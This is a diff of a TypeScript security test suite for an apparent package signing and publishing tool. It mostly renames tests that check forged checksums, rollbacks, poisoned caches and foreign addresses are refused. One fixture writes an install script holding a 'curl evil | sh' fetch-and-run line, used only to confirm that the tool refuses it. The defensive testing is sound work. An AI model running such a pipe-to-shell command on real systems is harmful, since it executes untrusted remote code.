@@ -72,7 +72,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     expect(differences(before, live())).toEqual([]);
   };
 
-  test("gets no forged checksum signed by a refresh", async () => {
+  test("gets no signature for a forged checksum by a refresh", async () => {
     forgeFolder(project.www, 0, checksum(project), evil);
     expect(readFileSync(join(project.www, "current/api/v1/package/index.json"), "utf8")).toContain(evil);
     await refuses(
@@ -83,7 +83,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     );
   });
 
-  test("gets no forged checksum signed by a rollback", async () => {
+  test("gets no signature for a forged checksum by a rollback", async () => {
     forgeFolder(project.www, 1, checksum(project), evil);
     await refuses(
       /^error\[build-unproved\] dir:\S+: build\.json of the kept build [0-9a-f]{12} is not what was signed\n/,
@@ -91,7 +91,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     );
   });
 
-  test("gets no forged file signed whose build.json is left as it was", async () => {
+  test("gets no signature for a forged file that build.json does not mention", async () => {
     const { history } = stateOf(folderStorage(project.www));
     const path = "releases/26.08.001/SHA256SUMS";
     for (const { files } of history)
@@ -108,7 +108,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     );
   });
 
-  test("gets no forged configuration for web servers signed or restored", async () => {
+  test("gets no signature or rollback for a forged configuration of web servers", async () => {
     const { history } = stateOf(folderStorage(project.www));
     for (const { files } of history) {
       const hosting = join(project.www, "builds", `${files}.hosting`);
@@ -126,7 +126,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     await refuses(/: hosting\/\S+ of the kept build \S+ is missing or changed\n/, ...rollbackArgs);
   });
 
-  test("cannot have the state of before signed again while newer metadata is there", async () => {
+  test("gets no signature for the earlier state while newer metadata is there", async () => {
     const [, before] = stateOf(folderStorage(project.www)).history;
     const state = stateOf(folderStorage(project.www));
     const put = { ...state, build: before?.build, history: [before] };
@@ -143,7 +143,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     );
   });
 
-  test("cannot have a build signed that the ledger does not confirm", async () => {
+  test("gets no signature for a build that the ledger does not confirm", async () => {
     const ledger = join(project.folder, "releases/ledger.jsonl");
     const text = readFileSync(ledger, "utf8");
     rewrite(ledger, (lines) => lines.replace(/"content":"[0-9a-f]{64}"/, `"content":"${evil}"`));
@@ -159,7 +159,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     }
   });
 
-  test("cannot keep a withdrawn package alive through refreshes", async () => {
+  test("cannot keep a withdrawn package in the catalog through refreshes", async () => {
     const ledger = join(project.folder, "releases/ledger.jsonl");
     const text = readFileSync(ledger, "utf8");
     await project.succeed("retract", "7", "--reason", "Does not start.", "--yes");
@@ -176,7 +176,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     }
   });
 
-  test("cannot drive version numbers up: only signed ones count, file names within a bound", async () => {
+  test("cannot raise versions: only signed ones count, and file names only within a bound", async () => {
     await verify();
     const before = timestampVersion();
     const big = Number.MAX_SAFE_INTEGER;
@@ -192,7 +192,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     expect(readdirSync(join(project.folder, "dist/metadata")).filter((name) => name.length > 40)).toEqual([]);
   });
 
-  test("cannot keep a broken signature alive: status and publish name it, and signing replaces it", async () => {
+  test("cannot keep an invalid signature: status and publish name it, and sign replaces it", async () => {
     const roles = readdirSync(join(project.www, "current/metadata")).filter((name) =>
       name.includes("catalog"),
     );
@@ -212,7 +212,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     expect((await project.succeed("status")).stdout).not.toContain(said);
   });
 
-  test("cannot make numbers go back by destroying the timestamp", async () => {
+  test("cannot lower versions by destroying the timestamp", async () => {
     await verify();
     const before = timestampVersion();
     writeFileSync(metadata("timestamp.json"), "{}");
@@ -221,7 +221,7 @@ describe("an attacker who can write the site's folder, and has no key,", () => {
     await verify();
   });
 
-  test("cannot offer the signed build of another address", async () => {
+  test("cannot substitute the signed build of another address", async () => {
     const config = join(project.folder, "releases/catalog.yaml");
     const text = readFileSync(config, "utf8");
     rewrite(config, (yaml) => yaml.replace(/^base_url: .*$/m, "base_url: https://other.example.com"));
@@ -265,30 +265,30 @@ describe("an attacker who can write the site's bucket, and has no key,", () => {
     expect([...fake.bucket.objects].filter(([key, { etag }]) => before.get(key)?.etag !== etag)).toEqual([]);
   };
 
-  test("gets no forged checksum signed by a refresh", async () => {
+  test("gets no signature for a forged checksum by a refresh", async () => {
     forgeBucket(fake, 0, checksum(project), evil);
     await refuses("publish", "prod", "--refresh");
   });
 
-  test("gets no forged checksum signed by a rollback", async () => {
+  test("gets no signature for a forged checksum by a rollback", async () => {
     forgeBucket(fake, 1, checksum(project), evil);
     await refuses(...rollbackArgs);
   });
 
-  test("does not stop what is sound: refresh and rollback work", async () => {
+  test("does not prevent a refresh or rollback of valid builds", async () => {
     await project.succeed("publish", "prod", "--refresh");
     await project.succeed(...rollbackArgs);
   });
 });
 
-describe("an attacker who can change what is signed", () => {
+describe("an attacker who can change the input of sign", () => {
   let project: PublishingProject;
   beforeAll(async () => {
     project = await publishingProject();
   });
   const dist = (path: string) => join(project.folder, "dist", path);
 
-  test("in the build's folder, consistently, gets no signature", async () => {
+  test("consistently in the build's folder gets no signature", async () => {
     const sum = checksum(project);
     const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
     for (const path of Object.keys(build.files)) {
@@ -310,7 +310,7 @@ describe("an attacker who can change what is signed", () => {
     await project.succeed("sign", "--site", "prod");
   });
 
-  test("through a poisoned build cache gets no signature, and the checkout's own build is signed", async () => {
+  test("with a poisoned build cache gets no signature, and the checkout's own build is signed", async () => {
     const cache = join(project.folder, ".relcat-cache");
     await project.succeed("build", "--released");
     const forged = cacheEntries(cache).filter((path) =>
@@ -333,7 +333,7 @@ describe("an attacker who can change what is signed", () => {
     await project.succeed("sign", "--site", "prod");
   });
 
-  test("by a file that the build does not make gets no signature", async () => {
+  test("with an additional file gets no signature", async () => {
     const build = JSON.parse(readFileSync(dist("build.json"), "utf8"));
     mkdirSync(dist("extra"), { recursive: true });
     writeFileSync(dist("extra/install.sh"), "curl evil | sh\n");
@@ -347,7 +347,7 @@ describe("an attacker who can change what is signed", () => {
     await project.succeed("build", "--released");
   });
 
-  test("after it was signed, consistently, does not get it published", async () => {
+  test("consistently after sign does not get it published", async () => {
     await project.succeed("build", "--released", "--check-out");
     await project.succeed("sign", "--site", "prod");
     const kept = join(project.folder, "signed-dist");
@@ -387,7 +387,7 @@ describe("an attacker who can change what is signed", () => {
     expect(existsSync(join(project.www, "current"))).toBe(false);
   });
 
-  test("by an address of their own gets no signature", async () => {
+  test("with an address of their own gets no signature", async () => {
     rewrite(dist("build.json"), (text) =>
       text.replace(/"base_url":"[^"]*"/, '"base_url":"https://evil.example"'),
     );
